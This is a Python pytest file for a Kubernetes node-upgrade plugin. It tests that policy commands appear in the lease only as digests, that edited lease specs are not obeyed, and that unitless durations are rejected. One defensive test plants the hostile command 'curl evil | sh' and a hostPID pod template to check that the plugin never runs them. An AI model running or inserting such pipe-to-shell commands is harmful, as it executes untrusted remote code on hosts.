"""What of a policy stands in the cluster, and that nothing to be run is ever taken from there."""

import json

import pytest
from msgspec.structs import replace

from kubectl_nodelife.acts.upgrade.lease import check_start, go_on_by
from kubectl_nodelife.controllers.upgrade.document import (
    ANNOTATION_REQUEST,
    ANNOTATION_RUN,
    RunDocument,
    RunPhase,
    UpgradeRequest,
    Verb,
    document_of,
    encode_document,
    request_on,
)
from kubectl_nodelife.controllers.upgrade.policy import (
    policy_digest,
    policy_from,
    policy_of_spec,
    shown_policy,
)
from kubectl_nodelife.errors import BadInput, Refused
from kubectl_nodelife.kube.meta import ObjectMeta
from kubectl_nodelife.kube.node import Lease

WORK = {"mode": "run", "command": "ssh $NODE secret", "rerunSafe": True}
TEMPLATE = {"kind": "Pod", "spec": {"containers": [{"image": "hidden"}]}}
POLICY = policy_from(
    {"work": WORK, "gate": "ask-alerts --token x", "canaryTemplate": TEMPLATE, "soak": "2m"}
)


def test_commands_and_manifests_stand_in_the_document_as_digests() -> None:
    text = json.dumps(shown_policy(POLICY))
    for hidden in ("ssh", "secret", "ask-alerts", "token x", "hidden"):
        assert hidden not in text
    manifest = {"metadata": {}, "spec": {"template": "also-hidden"}}
    of_job = policy_from({"work": {"mode": "job", "manifest": manifest}})
    assert "also-hidden" not in json.dumps(shown_policy(of_job))


def test_another_command_is_another_order() -> None:
    other = policy_from({"work": {**WORK, "command": "x"}, "gate": "y", "soak": "2m"})
    assert policy_digest(other) != policy_digest(POLICY)
    assert shown_policy(other)["work"]["digest"] != shown_policy(POLICY)["work"]["digest"]


def test_nothing_that_somebody_puts_into_a_lease_is_run() -> None:
    evil = {
        **shown_policy(POLICY),
        "work": {"mode": "run", "command": "curl evil | sh", "manifest": {"spec": {}}},
        "gate": "curl evil | sh",
        "canaryTemplate": {"spec": {"hostPID": True}},
    }
    found = policy_of_spec(evil)
    assert not found.work.command and found.work.manifest is None
    assert not found.gate and found.canary_template is None


def test_the_same_order_is_known_again_and_a_spec_that_was_edited_is_not_obeyed() -> None:
    """What `start` goes on by is the digest of what was typed, and the policy that was typed."""
    run = RunDocument(run="r1", policy=policy_digest(POLICY), spec=shown_policy(POLICY))
    edited = replace(run, spec={**run.spec, "drain": {"force": True}, "maxUnavailable": "100%"})
    assert check_start(_lease(edited), [], POLICY, 0) == "r1"
    other = replace(POLICY, max_failures=3)
    with pytest.raises(Refused, match="maxFailures is 0 there, 3 here"):
        check_start(_lease(run), [], other, 0)
    assert check_start(_lease(run), [], other, 0, resumes=True) == "r1"
    with pytest.raises(Refused, match="keeps its nodes"):
        check_start(_lease(run), [], replace(other, nodes=("b1",)), 0, resumes=True)


def test_resuming_by_another_order_keeps_what_was_asked_and_ends_a_pause() -> None:
    other = replace(POLICY, max_failures=3)
    run = RunDocument(run="r1", policy=policy_digest(POLICY), phase=RunPhase.PAUSED)
    waits = UpgradeRequest(verb=Verb.RESUME, retry=("b7",))
    for asked, retry in ((None, ()), (waits, ("b7",)), (UpgradeRequest(verb=Verb.PAUSE), ())):
        changes = go_on_by(other, _lease(run, asked))
        assert changes is not None
        lease = Lease(metadata=ObjectMeta(name="l", annotations=dict(changes)))
        run_then, request = document_of(lease), request_on(lease)
        assert run_then is not None and run_then.policy == policy_digest(other)
        assert request is not None and (request.verb, request.retry) == (Verb.RESUME, retry)


def _lease(run: RunDocument, request: UpgradeRequest | None = None) -> Lease:
    notes = {ANNOTATION_RUN: encode_document(run)}
    if request is not None:
        notes[ANNOTATION_REQUEST] = encode_document(request)
    return Lease(metadata=ObjectMeta(name="l", annotations=notes))


@pytest.mark.parametrize("soak", [60, 1e400, [], {"minutes": 1}, True])
def test_a_duration_without_a_unit_is_refused(soak: object) -> None:
    """A number would be nanoseconds, which is not what `soak: 60` in a file means."""
    with pytest.raises(BadInput, match="not a duration such as 90s or 5m"):
        policy_from({"soak": soak})
